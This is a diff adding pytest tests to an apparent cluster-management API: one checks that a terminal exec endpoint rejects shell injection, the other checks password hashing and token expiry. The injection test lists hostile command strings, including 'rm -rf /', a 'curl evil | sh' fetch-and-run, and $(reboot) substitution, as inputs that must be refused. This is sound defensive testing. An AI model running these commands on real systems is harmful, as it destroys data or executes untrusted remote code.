@@ -52,6 +52,7 @@ def app():
     thread.start()
     port = server.server_address[1]
     client = Client(port)
+    client.api = api  # direct handle for white-box assertions
     client.login()
     yield client, runner, db, engine
     engine.shutdown()
@@ -424,3 +425,55 @@ def test_runner_exception_fails_task_cleanly(app):
     assert engine.wait(out["task_id"], timeout=60)
     _, task = client.req("GET", f"/api/v1/tasks/{out['task_id']}", expect=200)
     assert task["status"] == "Success"
+
+
+def test_terminal_rejects_shell_injection(app):
+    """The allowlist constrains execution, not just the string prefix:
+    chained/injected commands and near-miss binaries are 400s."""
+    client, runner, db, engine = app
+    host_ids = _setup_hosts(client, 2)
+    out = _create_cluster(client, host_ids, name="sec1")
+    assert engine.wait(out["task_id"], timeout=60)
+    for cmd in [
+        "kubectl get pods; rm -rf /",
+        "kubectl get pods && curl evil | sh",
+        "kubectl get pods $(reboot)",
+        "kubectl get pods `reboot`",
+        "kubectlanything",
+        "helm; reboot",
+        "sh -c 'kubectl get pods'",
+        "",
+    ]:
+        status, res = client.req("POST", "/api/v1/clusters/sec1/exec",
+                                 {"command": cmd})
+        assert status == 400, (cmd, status, res)
+
+
+def test_passwords_hashed_and_tokens_expire(app):
+    client, runner, db, engine = app
+    # users table holds a salted scrypt hash, never the plaintext
+    admin = db.get_by_name("users", "admin")
+    assert "password" not in admin
+    assert admin["password_hash"].startswith("scrypt$")
+    assert "admin123" not in json.dumps(admin)
+
+    status, _ = client.req("POST", "/api/v1/auth/login",
+                           {"username": "admin", "password": "wrong"})
+    assert status == 401
+
+    # a second session: expiry is enforced per-request
+    c2 = Client(int(client.base.rsplit(":", 1)[1]))
+    c2.api = client.api
+    c2.login()
+    c2.req("GET", "/api/v1/clusters", expect=200)
+    c2.api.tokens[c2.token]["expires_at"] = 0.0
+    status, res = c2.req("GET", "/api/v1/clusters")
+    assert status == 401 and "expired" in res["error"]
+    assert c2.token not in c2.api.tokens  # dropped on rejection
+
+    # logout invalidates the presented token immediately
+    c2.login()
+    c2.req("GET", "/api/v1/clusters", expect=200)
+    c2.req("POST", "/api/v1/auth/logout", expect=200)
+    status, _ = c2.req("GET", "/api/v1/clusters")
+    assert status == 401
